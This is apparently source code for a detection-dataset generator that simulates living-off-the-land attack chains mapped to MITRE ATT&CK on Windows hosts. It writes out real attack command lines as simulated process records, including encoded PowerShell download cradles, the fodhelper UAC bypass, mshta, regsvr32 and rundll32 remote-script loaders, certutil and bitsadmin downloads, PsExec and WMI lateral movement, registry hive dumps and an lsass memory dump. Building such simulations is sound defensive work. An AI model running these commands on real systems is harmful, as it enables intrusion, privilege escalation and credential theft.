/**
 * Attack scenarios: chains of living-off-the-land steps mapped to MITRE ATT&CK, each template
 * randomised per instance (payload names, staging paths, C2 addresses, encoded commands,
 * timing, and the foothold it starts from). Instances are planned up front (host, user session,
 * time) and then replayed inside the host simulators as timeline parts, so the attack processes
 * hang off the same explorer, Outlook, services and WMI hosts as the benign activity around them.
 */
import { BIN, droppedBinary, renamedBinary, type BinaryDef } from './catalog';
import {
  DAY_MS,
  HOUR_MS,
  MIN_MS,
  SYSTEM,
  dayPlan,
  type Environment,
  type HostInfo,
} from './environment';
import {
  Actor,
  backgroundLabel,
  type BootState,
  type HostSim,
  type ProcNode,
  type SessionState,
  type SpawnSpec,
} from './host_sim';
import type { TimelinePart } from './lifecycle';
import { Rng } from './rng';
import {
  c2Url,
  docName,
  downloadCradle,
  encodePowerShell,
  outlookCachePath,
  payloadName,
  stagingDir,
} from './text';

export interface AttackPlan {
  /** Unique scenario instance id, the label's scenario_id. */
  id: string;
  template: string;
  techniques: readonly string[];
  victim: number;
  target?: number;
  start: number;
  /** When the lateral-movement step lands on the target host. */
  remoteAt?: number;
  seed: string;
}

interface Ctx {
  plan: AttackPlan;
  env: Environment;
  sim: HostSim;
  host: HostInfo;
  target?: HostInfo;
  session?: SessionState;
  /** Values both halves of a lateral scenario agree on. */
  shared: Shared;
}

interface Shared {
  c2: string;
  tool: string;
  remoteCmd: string;
  /** What the remote cmd.exe /c line itself starts. */
  remoteChildren: Array<[BinaryDef, string]>;
  taskName: string;
  dumpPath: string;
  variant: number;
}

type Victim = 'user' | 'server' | 'web';

interface Template {
  name: string;
  techniques: readonly string[];
  victim: Victim;
  lateral?: 'server' | 'dc';
  /** Minutes from the first step to the step on the target host. */
  remoteDelayMin?: [number, number];
  run: (a: Actor, ctx: Ctx) => void;
  remote?: (a: Actor, ctx: Ctx) => void;
}

const PS = BIN.powershell.path;

function user(
  ctx: Ctx,
  elevated = false,
): Pick<SpawnSpec, 'account' | 'session' | 'logon' | 'integrity' | 'elevation'> {
  const s = ctx.session;
  if (!s) return { account: SYSTEM, integrity: 'System' };
  return {
    account: s.account,
    session: s.id,
    logon: s.logon,
    integrity: elevated ? 'High' : 'Medium',
    elevation: elevated ? 'full' : s.person.it || s.kind === 'rdp' ? 'limited' : 'default',
  };
}

function profile(ctx: Ctx): string {
  return ctx.session?.account.profile ?? 'C:\\Windows\\system32\\config\\systemprofile';
}

function boot(ctx: Ctx): BootState {
  return ctx.sim.boot as BootState;
}

/** The benign process an attack hangs from when no user session is involved. */
function serviceParent(ctx: Ctx): ProcNode {
  const b = boot(ctx);
  return b.services ?? b.smss;
}

function encodedStager(a: Actor, ctx: Ctx): { cmd: string; script: string } {
  const rng = a.rng;
  const script = downloadCradle(
    rng,
    `${ctx.shared.c2}/${rng.pick(['login/process.php', 'admin/get.php', 'news.php', 'api/v2/update', 'jquery-3.3.1.min.js'])}`,
  );
  const enc = encodePowerShell(script);
  const style = rng.int(0, 4);
  const cmd = [
    `powershell.exe -nop -w hidden -enc ${enc}`,
    `powershell -NoP -NonI -W Hidden -Exec Bypass -Enc ${enc}`,
    `"${PS}" -noP -sta -w 1 -enc  ${enc}`,
    `powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand ${enc}`,
    `powershell  -nop -exec bypass -EncodedCommand ${enc}`,
  ][style] as string;
  return { cmd, script };
}

/**
 * The attacker's first interactive foothold in the victim's session: a command shell or
 * PowerShell started by a lure (malicious shortcut, dropped implant or macro).
 */
function foothold(a: Actor, ctx: Ctx, kind: 'cmd' | 'powershell'): ProcNode {
  const rng = a.rng;
  const s = ctx.session;
  if (!s?.explorer) {
    // Server victims: the operator already has a service-context shell.
    return a.attack(
      serviceParent(ctx),
      {
        bin: BIN.cmd,
        cmd: 'C:\\Windows\\system32\\cmd.exe /c C:\\Windows\\Temp\\svc.bat',
        account: SYSTEM,
        integrity: 'System',
      },
      'T1569.002',
      'service executes attacker batch file',
    );
  }
  const lure = rng.int(0, 2);
  if (lure === 0) {
    const implantPath = `${profile(ctx)}\\Downloads\\${docName(rng, 'pdf').replace(/\.pdf$/, '')}.exe`;
    const implant = a.attack(
      s.explorer,
      {
        ...user(ctx),
        bin: droppedBinary(implantPath),
        cmd: `"${implantPath}" `,
        hashSalt: ctx.plan.id,
        cwd: `${profile(ctx)}\\Downloads\\`,
      },
      'T1204.002',
      'user executed a downloaded implant masquerading as a document',
    );
    a.wait(3000, 40_000);
    return kind === 'cmd'
      ? a.attack(
          implant,
          { bin: BIN.cmd, cmd: 'C:\\Windows\\system32\\cmd.exe', conhost: true },
          'T1059.003',
          'implant spawns an interactive command shell',
        )
      : a.attack(
          implant,
          { bin: BIN.powershell, cmd: 'powershell.exe -nop -w hidden', conhost: true },
          'T1059.001',
          'implant spawns an interactive PowerShell',
        );
  }
  if (lure === 1) {
    const cmd = a.attack(
      s.explorer,
      {
        ...user(ctx),
        bin: BIN.cmd,
        cmd: `"C:\\Windows\\System32\\cmd.exe" /c start /min powershell -w hidden -nop -c "${downloadCradle(rng, `${ctx.shared.c2}/${rng.chars(6)}`)}"`,
      },
      ['T1204.002', 'T1059.003'],
      'malicious shortcut runs cmd /c start powershell',
    );
    a.wait(200, 1500);
    const ps = a.attack(
      cmd,
      {
        bin: BIN.powershell,
        cmd: `powershell  -w hidden -nop -c "${downloadCradle(rng, `${ctx.shared.c2}/${rng.chars(6)}`)}"`,
      },
      ['T1059.001', 'T1105'],
      'PowerShell download cradle from shortcut',
    );
    if (kind === 'powershell') return ps;
    a.wait(5000, 60_000);
    return a.attack(
      ps,
      { bin: BIN.cmd, cmd: '"C:\\Windows\\system32\\cmd.exe" ' },
      'T1059.003',
      'stager opens a command shell',
    );
  }
  const doc = officeLure(a, ctx);
  a.wait(1500, 12_000);
  const { cmd } = encodedStager(a, ctx);
  const ps = a.attack(
    doc,
    { bin: BIN.powershell, cmd },
    ['T1059.001', 'T1027'],
    'Office macro launches encoded PowerShell',
  );
  if (kind === 'powershell') return ps;
  a.wait(10_000, 90_000);
  return a.attack(
    ps,
    { bin: BIN.cmd, cmd: '"C:\\Windows\\system32\\cmd.exe" /Q' },
    'T1059.003',
    'stager opens a command shell',
  );
}

/** A phishing document opened from Outlook (or from Downloads when Outlook is not running). */
function officeLure(a: Actor, ctx: Ctx): ProcNode {
  const rng = a.rng;
  const s = ctx.session as SessionState;
  const [bin, ext] = rng.pick<[BinaryDef, string]>([
    [BIN.winword, 'docm'],
    [BIN.winword, 'doc'],
    [BIN.excel, 'xlsm'],
    [BIN.excel, 'xls'],
  ]);
  const outlook = s.apps.get('outlook');
  const file = outlook
    ? outlookCachePath(rng, profile(ctx), docName(rng, ext))
    : `${profile(ctx)}\\Downloads\\${docName(rng, ext)}`;
  const parent = outlook ?? (s.explorer as ProcNode);
  return a.attack(
    parent,
    {
      ...user(ctx),
      bin,
      cmd: `"${bin.path}" /n "${file}" /o ""`,
      cwd: `${profile(ctx)}\\Documents\\`,
    },
    'T1566.001',
    `phishing attachment opened in ${bin.name}`,
  );
}

/** Escalate on a workstation with the fodhelper UAC bypass (ms-settings handler hijack). */
function uacBypass(a: Actor, ctx: Ctx, shell: ProcNode): ProcNode {
  const rng = a.rng;
  if (shell.integrity === 'High' || shell.integrity === 'System') return shell;
  const { cmd: payload } = encodedStager(a, ctx);
  a.wait(5000, 60_000);
  a.attack(
    shell,
    {
      bin: BIN.reg,
      cmd: `reg.exe add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "${payload.replace(/"/g, '\\"')}" /f`,
    },
    ['T1548.002', 'T1112'],
    'UAC bypass: hijack ms-settings handler',
  );
  a.wait(200, 2000);
  a.attack(
    shell,
    {
      bin: BIN.reg,
      cmd: 'reg.exe add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /t REG_SZ /d "" /f',
    },
    ['T1548.002', 'T1112'],
    'UAC bypass: DelegateExecute',
  );
  a.wait(300, 3000);
  const fod = a.attack(
    shell,
    {
      bin: BIN.fodhelper,
      cmd: 'C:\\Windows\\system32\\fodhelper.exe',
      integrity: 'High',
      elevation: 'full',
      conhost: false,
    },
    'T1548.002',
    'fodhelper auto-elevation runs hijacked handler',
  );
  a.wait(100, 900);
  const high = a.attack(
    fod,
    { bin: BIN.powershell, cmd: payload, integrity: 'High', elevation: 'full' },
    ['T1548.002', 'T1059.001'],
    'elevated stager from UAC bypass',
  );
  if (rng.chance(0.5)) {
    a.wait(2000, 20_000);
    a.attack(
      high,
      { bin: BIN.reg, cmd: 'reg.exe delete HKCU\\Software\\Classes\\ms-settings /f' },
      'T1070',
      'clean up UAC bypass key',
    );
  }
  return high;
}

function discoveryBurst(a: Actor, ctx: Ctx, shell: ProcNode, min: number, max: number): void {
  const rng = a.rng;
  const dom = ctx.env.domain;
  const dc = ctx.env.hosts.find((h) => h.role === 'dc');
  const cmds: Array<[BinaryDef, string, string, string | null]> = rng.shuffle([
    [BIN.whoami, 'whoami  /all', 'T1033', null],
    [BIN.whoami, 'whoami', 'T1033', null],
    [BIN.net, 'net  user /domain', 'T1087.002', 'user /domain'],
    [BIN.net, 'net  group "Domain Admins" /domain', 'T1069.002', 'group "Domain Admins" /domain'],
    [
      BIN.net,
      'net  group "Enterprise Admins" /domain',
      'T1069.002',
      'group "Enterprise Admins" /domain',
    ],
    [BIN.net, 'net  localgroup administrators', 'T1069.001', 'localgroup administrators'],
    [BIN.net, 'net  user', 'T1087.001', 'user'],
    [BIN.net, `net  view \\\\${dc?.short ?? 'DC01'}`, 'T1135', `view \\\\${dc?.short ?? 'DC01'}`],
    [BIN.nltest, 'nltest  /domain_trusts /all_trusts', 'T1482', null],
    [BIN.nltest, `nltest  /dclist:${dom.fqdn}`, 'T1018', null],
    [BIN.ipconfig, 'ipconfig  /all', 'T1016', null],
    [BIN.systeminfo, 'systeminfo  ', 'T1082', null],
    [BIN.tasklist, 'tasklist  /v', 'T1057', null],
    [BIN.quser, 'quser  ', 'T1033', null],
    [BIN.arp, 'arp  -a', 'T1016', null],
    [BIN.route, 'route  print', 'T1016', null],
    [BIN.netstat, 'netstat  -ano', 'T1049', null],
    [BIN.hostname, 'hostname  ', 'T1082', null],
  ]);
  const n = rng.int(min, max);
  const viaPs = shell.bin === BIN.powershell;
  for (let i = 0; i < n && i < cmds.length; i++) {
    const [bin, cmd, tech, netArgs] = cmds[i] as [BinaryDef, string, string, string | null];
    a.wait(800, viaPs ? 8000 : 25_000);
    const full = viaPs ? `"${bin.path}" ${cmd.slice(cmd.indexOf('  ') + 2)}`.trimEnd() : cmd;
    const p = a.attack(
      shell,
      { bin, cmd: full },
      tech,
      `discovery: ${cmd.replace(/\s+/g, ' ').trim()}`,
    );
    if (netArgs) a.child(p, { bin: BIN.net1, cmd: `C:\\Windows\\system32\\net1  ${netArgs}` });
  }
}

function wmiProvider(ctx: Ctx, t: number): ProcNode {
  const b = boot(ctx);
  if (b.wmiprvse && b.wmiprvse.until > t) {
    b.wmiprvse.until = Math.max(b.wmiprvse.until, t + 5 * MIN_MS);
    return b.wmiprvse.node;
  }
  const dcom = b.svc.get('DcomLaunch') ?? serviceParent(ctx);
  const node = ctx.sim.spawn(dcom, t - 400, {
    bin: BIN.wmiprvse,
    cmd: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
    account: SYSTEM,
    label: backgroundLabel('dcom_activation'),
  });
  b.wmiprvse = { node, until: t + 5 * MIN_MS };
  return node;
}

function dropAndRun(
  a: Actor,
  ctx: Ctx,
  shell: ProcNode,
  payloadPath: string,
  reason: string,
): ProcNode {
  a.wait(2000, 30_000);
  const node = a.attack(
    shell,
    {
      bin: droppedBinary(payloadPath),
      cmd: `"${payloadPath}" ${a.rng.pick(['', '-s', '/quiet', `--id ${a.rng.hex(8)}`])}`.trimEnd(),
      hashSalt: ctx.plan.id,
      conhost: false,
    },
    'T1204.002',
    reason,
  );
  if (a.rng.chance(0.6)) {
    a.wait(3000, 30_000);
    const c = a.attack(
      node,
      {
        bin: BIN.cmd,
        cmd: `C:\\Windows\\system32\\cmd.exe /c whoami & hostname & ipconfig`,
        conhost: true,
      },
      ['T1059.003', 'T1033'],
      'payload runs first-contact discovery',
    );
    a.child(c, { bin: BIN.whoami, cmd: 'whoami ' });
    a.child(c, { bin: BIN.hostname, cmd: 'hostname ' });
    a.child(c, { bin: BIN.ipconfig, cmd: 'ipconfig ' });
  }
  return node;
}

/** The programs the remote `cmd.exe /c ...` line starts by itself. */
function runRemoteChildren(a: Actor, ctx: Ctx, shell: ProcNode): void {
  const tech = new Map<BinaryDef, string>([
    [BIN.whoami, 'T1033'],
    [BIN.hostname, 'T1082'],
    [BIN.ipconfig, 'T1016'],
    [BIN.net, 'T1069.002'],
    [BIN.reg, 'T1003.002'],
  ]);
  for (const [bin, cmd] of ctx.shared.remoteChildren) {
    a.wait(15, 400);
    const p = a.attack(
      shell,
      { bin, cmd },
      tech.get(bin) ?? 'T1059.003',
      `remote command: ${cmd.replace(/\s+/g, ' ').trim()}`,
    );
    if (bin === BIN.net)
      a.child(p, {
        bin: BIN.net1,
        cmd: `C:\\Windows\\system32\\net1  ${cmd.slice(cmd.indexOf('  ') + 2)}`,
      });
  }
}

function pad(n: number): string {
  return String(n).padStart(2, '0');
}

const TEMPLATES: Template[] = [
  {
    name: 'office_macro_powershell',
    techniques: ['T1566.001', 'T1204.002', 'T1059.003', 'T1059.001', 'T1027', 'T1033'],
    victim: 'user',
    run: (a, ctx) => {
      const rng = a.rng;
      const doc = officeLure(a, ctx);
      a.wait(1500, 15_000);
      const { cmd } = encodedStager(a, ctx);
      let ps: ProcNode;
      if (rng.chance(0.5)) {
        const c = a.attack(
          doc,
          { bin: BIN.cmd, cmd: `cmd.exe /c ${cmd.replace(/^"[^"]+"/, 'powershell.exe')}` },
          'T1059.003',
          'Office macro spawns cmd.exe',
        );
        a.wait(20, 300);
        ps = a.attack(
          c,
          { bin: BIN.powershell, cmd: cmd.replace(/^"[^"]+"/, 'powershell.exe') },
          ['T1059.001', 'T1027'],
          'encoded PowerShell stager',
        );
      } else {
        ps = a.attack(
          doc,
          { bin: BIN.powershell, cmd },
          ['T1059.001', 'T1027'],
          'Office macro spawns encoded PowerShell',
        );
      }
      discoveryBurst(a, ctx, ps, 1, 3);
    },
  },
  {
    name: 'mshta_hta_stager',
    techniques: ['T1218.005', 'T1059.001', 'T1027', 'T1204.002'],
    victim: 'user',
    run: (a, ctx) => {
      const rng = a.rng;
      const s = ctx.session as SessionState;
      const parent = rng.pick([
        s.explorer,
        s.apps.get('outlook') ?? s.explorer,
        s.apps.get('browser') ?? s.explorer,
      ]) as ProcNode;
      const { cmd: stager } = encodedStager(a, ctx);
      const variant = rng.int(0, 2);
      const cmd =
        variant === 0
          ? `"C:\\Windows\\System32\\mshta.exe" ${c2Url(rng, 'hta')}`
          : variant === 1
            ? `mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""${stager.replace(/"/g, '""')}"", 0:close")`
            : `mshta.exe javascript:a=(GetObject('script:${c2Url(rng, 'sct')}')).Exec();close();`;
      const m = a.attack(
        parent,
        { ...user(ctx), bin: BIN.mshta, cmd },
        'T1218.005',
        'mshta runs remote/inline script',
      );
      a.wait(300, 4000);
      const ps = a.attack(
        m,
        { bin: BIN.powershell, cmd: stager },
        ['T1059.001', 'T1027'],
        'mshta launches encoded PowerShell',
      );
      if (rng.chance(0.6)) discoveryBurst(a, ctx, ps, 1, 3);
    },
  },
  {
    name: 'regsvr32_squiblydoo',
    techniques: ['T1218.010', 'T1059.001', 'T1027'],
    victim: 'user',
    run: (a, ctx) => {
      const rng = a.rng;
      const shell = foothold(a, ctx, 'cmd');
      a.wait(3000, 60_000);
      const url = c2Url(rng, rng.pick(['sct', 'txt', 'jpg']));
      const r = a.attack(
        shell,
        {
          bin: BIN.regsvr32,
          cmd: rng.chance(0.5)
            ? `regsvr32  /s /n /u /i:${url} scrobj.dll`
            : `"C:\\Windows\\system32\\regsvr32.exe" /s /n /u /i:${url} scrobj.dll`,
        },
        'T1218.010',
        'regsvr32 scriptlet (squiblydoo)',
      );
      a.wait(200, 1500);
      const { cmd } = encodedStager(a, ctx);
      a.attack(
        r,
        { bin: BIN.powershell, cmd },
        ['T1059.001', 'T1027'],
        'scriptlet launches PowerShell stager',
      );
    },
  },
  {
    name: 'rundll32_javascript',
    techniques: ['T1218.011', 'T1059.007', 'T1059.001'],
    victim: 'user',
    run: (a, ctx) => {
      const rng = a.rng;
      const s = ctx.session as SessionState;
      const url = c2Url(rng, 'sct');
      const cmd = rng.chance(0.5)
        ? `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:${url}")`
        : `"C:\\Windows\\system32\\rundll32.exe" javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();h=new%20ActiveXObject("WinHttp.WinHttpRequest.5.1");h.Open("GET","${url}",false);h.Send();eval(h.ResponseText);`;
      const r = a.attack(
        s.explorer as ProcNode,
        { ...user(ctx), bin: BIN.rundll32, cmd },
        ['T1218.011', 'T1059.007'],
        'rundll32 mshtml RunHTMLApplication JavaScript',
      );
      a.wait(400, 3000);
      const { cmd: stager } = encodedStager(a, ctx);
      const ps = a.attack(
        r,
        { bin: BIN.powershell, cmd: stager },
        ['T1059.001', 'T1027'],
        'JavaScript launches PowerShell',
      );
      if (rng.chance(0.5)) discoveryBurst(a, ctx, ps, 1, 2);
    },
  },
  {
    name: 'certutil_download_exec',
    techniques: ['T1105', 'T1140', 'T1036.003', 'T1204.002', 'T1059.003'],
    victim: 'user',
    run: (a, ctx) => {
      const rng = a.rng;
      const shell = foothold(a, ctx, 'cmd');
      const dir = stagingDir(rng, profile(ctx));
      const out = `${dir}\\${payloadName(rng, 'exe')}`;
      a.wait(5000, 90_000);
      const variant = rng.int(0, 2);
      if (variant === 0) {
        a.attack(
          shell,
          {
            bin: BIN.certutil,
            cmd: `certutil.exe -urlcache -split -f ${c2Url(rng, 'exe')} ${out}`,
          },
          'T1105',
          'certutil downloads payload',
        );
      } else if (variant === 1) {
        const b64 = `${dir}\\${rng.chars(6)}.txt`;
        a.attack(
          shell,
          { bin: BIN.certutil, cmd: `certutil  -urlcache -f ${c2Url(rng, 'txt')} ${b64}` },
          'T1105',
          'certutil downloads encoded payload',
        );
        a.wait(1000, 10_000);
        a.attack(
          shell,
          { bin: BIN.certutil, cmd: `certutil  -decode ${b64} ${out}` },
          'T1140',
          'certutil decodes payload',
        );
      } else {
        // Renamed certutil: the image name no longer says certutil, the PE metadata still does.
        const copyPath = `${dir}\\${rng.pick(['cu.exe', 'ctl.exe', 'winupd.exe', 'msutil.exe'])}`;
        a.attack(
          shell,
          {
            bin: BIN.copyCmd,
            cmd: `xcopy  C:\\Windows\\System32\\certutil.exe ${copyPath}* /Y /Q`,
          },
          'T1036.003',
          'copy certutil under another name',
        );
        a.wait(1000, 8000);
        a.attack(
          shell,
          {
            bin: renamedBinary(BIN.certutil, copyPath),
            cmd: `${copyPath} -urlcache -split -f ${c2Url(rng, 'exe')} ${out}`,
          },
          ['T1105', 'T1036.003'],
          'renamed certutil downloads payload',
        );
      }
      dropAndRun(a, ctx, shell, out, 'downloaded payload executed');
    },
  },
  {
    name: 'bitsadmin_download_exec',
    techniques: ['T1197', 'T1105', 'T1059.001'],
    victim: 'user',
    run: (a, ctx) => {
      const rng = a.rng;
      const shell = foothold(a, ctx, 'cmd');
      const job = rng.pick(['myjob', 'Update', 'WindowsUpdate', 'DownloadJob', rng.chars(6)]);
      const dir = stagingDir(rng, profile(ctx));
      const ps1 = `${dir}\\${rng.pick(['update', 'config', 'run', rng.chars(5)])}.ps1`;
      a.wait(5000, 60_000);
      if (rng.chance(0.6)) {
        a.attack(
          shell,
          {
            bin: BIN.bitsadmin,
            cmd: `bitsadmin  /transfer ${job} /download /priority ${rng.pick(['foreground', 'high', 'normal'])} ${c2Url(rng, 'ps1')} ${ps1}`,
          },
          ['T1197', 'T1105'],
          'bitsadmin transfer downloads script',
        );
      } else {
        a.attack(
          shell,
          { bin: BIN.bitsadmin, cmd: `bitsadmin  /create ${job}` },
          'T1197',
          'bitsadmin create job',
        );
        a.wait(300, 3000);
        a.attack(
          shell,
          { bin: BIN.bitsadmin, cmd: `bitsadmin  /addfile ${job} ${c2Url(rng, 'ps1')} ${ps1}` },
          ['T1197', 'T1105'],
          'bitsadmin add remote file',
        );
        a.wait(300, 3000);
        a.attack(
          shell,
          {
            bin: BIN.bitsadmin,
            cmd: `bitsadmin  /SetNotifyCmdLine ${job} C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "-ep bypass -w hidden -file ${ps1}"`,
          },
          'T1197',
          'bitsadmin notify command for persistence',
        );
        a.wait(300, 3000);
        a.attack(
          shell,
          { bin: BIN.bitsadmin, cmd: `bitsadmin  /resume ${job}` },
          'T1197',
          'bitsadmin resume job',
        );
      }
      a.wait(2000, 20_000);
      a.attack(
        shell,
        {
          bin: BIN.powershell,
          cmd: `powershell  -ExecutionPolicy Bypass -WindowStyle Hidden -File ${ps1}`,
        },
        'T1059.001',
        'run downloaded PowerShell script',
      );
    },
  },
  {
    name: 'wmic_process_create',
    techniques: ['T1047', 'T1059.001', 'T1027'],
    victim: 'user',
    run: (a, ctx) => {
      const shell = foothold(a, ctx, a.rng.chance(0.5) ? 'cmd' : 'powershell');
      a.wait(5000, 60_000);
      const { cmd } = encodedStager(a, ctx);
      const inner = cmd.replace(/^"[^"]+"/, 'powershell.exe');
      const wmicCmd =
        shell.bin === BIN.powershell
          ? `"C:\\Windows\\System32\\Wbem\\WMIC.exe" process call create "${inner}"`
          : `wmic  process call create "${inner}"`;
      a.attack(shell, { bin: BIN.wmic, cmd: wmicCmd }, 'T1047', 'wmic process call create');
      a.wait(150, 900);
      const prov = wmiProvider(ctx, a.t);
      a.attack(
        prov,
        {
          bin: BIN.powershell,
          cmd: inner,
          account: ctx.session?.account,
          session: 0,
          logon: ctx.session?.logon,
          integrity: shell.integrity,
          elevation: shell.elevation,
        },
        ['T1047', 'T1059.001', 'T1027'],
        'WMI provider host starts the created process',
      );
    },
  },
  {
    name: 'schtasks_persistence',
    techniques: ['T1053.005', 'T1059.001', 'T1027'],
    victim: 'user',
    run: (a, ctx) => {
      const rng = a.rng;
      const shell = uacBypass(a, ctx, foothold(a, ctx, 'cmd'));
      const { cmd } = encodedStager(a, ctx);
      const action = cmd.replace(/^"[^"]+"/, 'powershell.exe');
      const name = ctx.shared.taskName;
      const every = rng.pick([15, 30, 60]);
      a.wait(5000, 90_000);
      const sched = rng.int(0, 2);
      const dailyAt = { h: rng.int(8, 17), m: rng.int(0, 59) };
      const create =
        sched === 0
          ? `schtasks  /create /tn "${name}" /tr "${action.replace(/"/g, '\\"')}" /sc minute /mo ${every} /ru SYSTEM /f`
          : sched === 1
            ? `"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC MINUTE /MO ${every} /TN "${name}" /TR "${action.replace(/"/g, '\\"')}" /RL HIGHEST`
            : `schtasks.exe /create /sc daily /st ${pad(dailyAt.h)}:${pad(dailyAt.m)} /tn "${name}" /tr "${action.replace(/"/g, '\\"')}" /ru SYSTEM`;
      a.attack(
        shell,
        { bin: BIN.schtasks, cmd: create },
        'T1053.005',
        'scheduled task created for persistence',
      );
      const svc = boot(ctx).svc.get('Schedule');
      if (!svc) return;
      const runs = sched === 2 ? 1 : rng.int(1, 3);
      let t = a.t + every * MIN_MS + rng.int(0, 4000);
      if (sched === 2) {
        // A daily task first fires at its next /st time of day.
        const dayStart = Math.floor(a.t / DAY_MS) * DAY_MS;
        t = dayStart + dailyAt.h * HOUR_MS + dailyAt.m * MIN_MS;
        if (t <= a.t) t += DAY_MS;
      }
      for (let i = 0; i < runs; i++) {
        a.t = t;
        a.attack(
          svc,
          {
            bin: BIN.powershell,
            cmd: action,
            account: SYSTEM,
            integrity: 'System',
            session: 0,
            elevation: 'default',
          },
          ['T1053.005', 'T1059.001', 'T1027'],
          'scheduled task fires encoded PowerShell',
        );
        t += every * MIN_MS + rng.int(0, 5000);
      }
    },
  },
  {
    name: 'psexec_lateral',
    techniques: ['T1021.002', 'T1569.002', 'T1570', 'T1003.002'],
    victim: 'user',
    lateral: 'server',
    remoteDelayMin: [6, 30],
    run: (a, ctx) => {
      const rng = a.rng;
      const shell = uacBypass(a, ctx, foothold(a, ctx, 'cmd'));
      const target = ctx.target as HostInfo;
      const remoteAt = ctx.plan.remoteAt as number;
      a.t = Math.max(a.t + 1000, remoteAt - rng.int(800, 2500));
      const tool = ctx.shared.tool;
      const bin = tool === BIN.psexec.path ? BIN.psexec : renamedBinary(BIN.psexec, tool);
      a.attack(
        shell,
        {
          bin,
          cmd: `${tool} \\\\${target.short.toLowerCase()} -accepteula -s ${ctx.shared.remoteCmd}`,
        },
        ['T1021.002', 'T1569.002'],
        `PsExec to ${target.short}`,
      );
    },
    remote: (a, ctx) => {
      const services = serviceParent(ctx);
      const svc = a.attack(
        services,
        {
          bin: BIN.psexesvc,
          cmd: 'C:\\Windows\\PSEXESVC.exe',
          account: SYSTEM,
          integrity: 'System',
        },
        ['T1569.002', 'T1570'],
        'PsExec service installed and started',
      );
      a.wait(100, 800);
      const c = a.attack(
        svc,
        {
          bin: BIN.cmd,
          cmd: ctx.shared.remoteCmd.replace(/^cmd\.exe/, 'C:\\Windows\\system32\\cmd.exe'),
          conhost: true,
        },
        ['T1021.002', 'T1059.003'],
        'remote command via PsExec',
      );
      runRemoteChildren(a, ctx, c);
      a.wait(5000, 120_000);
      if (ctx.shared.variant === 0) {
        a.attack(
          c,
          { bin: BIN.reg, cmd: 'reg  save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y' },
          'T1003.002',
          'dump SAM hive',
        );
        a.wait(200, 2000);
        a.attack(
          c,
          { bin: BIN.reg, cmd: 'reg  save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save /y' },
          'T1003.002',
          'dump SYSTEM hive',
        );
      } else if (ctx.shared.variant === 1) {
        discoveryBurst(a, ctx, c, 2, 4);
      } else {
        const { cmd } = encodedStager(a, ctx);
        a.attack(
          c,
          { bin: BIN.powershell, cmd: cmd.replace(/^"[^"]+"/, 'powershell.exe') },
          ['T1059.001', 'T1027'],
          'PowerShell stager on lateral target',
        );
      }
    },
  },
  {
    name: 'wmi_lateral',
    techniques: ['T1047', 'T1021.003', 'T1059.003'],
    victim: 'user',
    lateral: 'server',
    remoteDelayMin: [6, 30],
    run: (a, ctx) => {
      const rng = a.rng;
      const shell = foothold(a, ctx, 'powershell');
      const target = ctx.target as HostInfo;
      const admin = ctx.env.itStaff[0]?.adminAccount ?? ctx.env.itStaff[0]?.account;
      a.t = Math.max(a.t + 1000, (ctx.plan.remoteAt as number) - rng.int(600, 2000));
      a.attack(
        shell,
        {
          bin: BIN.wmic,
          cmd: `"C:\\Windows\\System32\\Wbem\\WMIC.exe" /node:"${target.short}" ${admin ? `/user:"${admin.domain}\\${admin.name}" /password:"${rng.chars(10, 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789!#')}" ` : ''}process call create "${ctx.shared.remoteCmd}"`,
        },
        ['T1047', 'T1021.003'],
        `remote WMI process create on ${target.short}`,
      );
    },
    remote: (a, ctx) => {
      const admin = ctx.env.itStaff[0]?.adminAccount ?? SYSTEM;
      const prov = wmiProvider(ctx, a.t);
      const logon = ctx.sim.newLogon(a.t);
      const c = a.attack(
        prov,
        {
          bin: BIN.cmd,
          cmd: ctx.shared.remoteCmd,
          account: admin,
          integrity: 'High',
          elevation: 'default',
          session: 0,
          logon,
          conhost: true,
        },
        ['T1047', 'T1059.003'],
        'WMI provider host runs remote command',
      );
      runRemoteChildren(a, ctx, c);
      a.wait(5000, 120_000);
      if (ctx.shared.variant !== 2) discoveryBurst(a, ctx, c, 1, 3);
      else {
        a.attack(
          c,
          { bin: BIN.reg, cmd: 'reg  save HKLM\\SECURITY C:\\Windows\\Temp\\sec.save /y' },
          'T1003.004',
          'dump SECURITY hive (LSA secrets)',
        );
      }
    },
  },
  {
    name: 'lsass_dump_comsvcs',
    techniques: ['T1003.001', 'T1218.011', 'T1057'],
    victim: 'user',
    run: (a, ctx) => {
      const rng = a.rng;
      const shell = uacBypass(a, ctx, foothold(a, ctx, 'powershell'));
      const lsass = boot(ctx).lsass;
      a.wait(5000, 60_000);
      a.attack(
        shell,
        {
          bin: BIN.tasklist,
          cmd:
            shell.bin === BIN.powershell
              ? '"C:\\Windows\\system32\\tasklist.exe" /fi "imagename eq lsass.exe"'
              : 'tasklist  /fi "imagename eq lsass.exe"',
        },
        'T1057',
        'find lsass PID',
      );
      a.wait(3000, 30_000);
      const dump = `${rng.pick(['C:\\Windows\\Temp', 'C:\\ProgramData', 'C:\\Users\\Public'])}\\${rng.pick(['lsass', 'debug', 'out', rng.chars(6)])}.${rng.pick(['dmp', 'bin', 'log'])}`;
      const pid = lsass?.pid ?? 700;
      const cmd = rng.chance(0.6)
        ? `"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${pid} ${dump} full`
        : `rundll32.exe comsvcs.dll #24 ${pid} ${dump} full`;
      a.attack(
        shell,
        { bin: BIN.rundll32, cmd },
        ['T1003.001', 'T1218.011'],
        'comsvcs.dll MiniDump of lsass',
      );
    },
  },
  {
    name: 'lsass_dump_procdump',
    techniques: ['T1003.001', 'T1036.003', 'T1105'],
    victim: 'user',
    run: (a, ctx) => {
      const rng = a.rng;
      const shell = uacBypass(a, ctx, foothold(a, ctx, 'cmd'));
      const dir = stagingDir(rng, profile(ctx));
      const renamed = rng.chance(0.5);
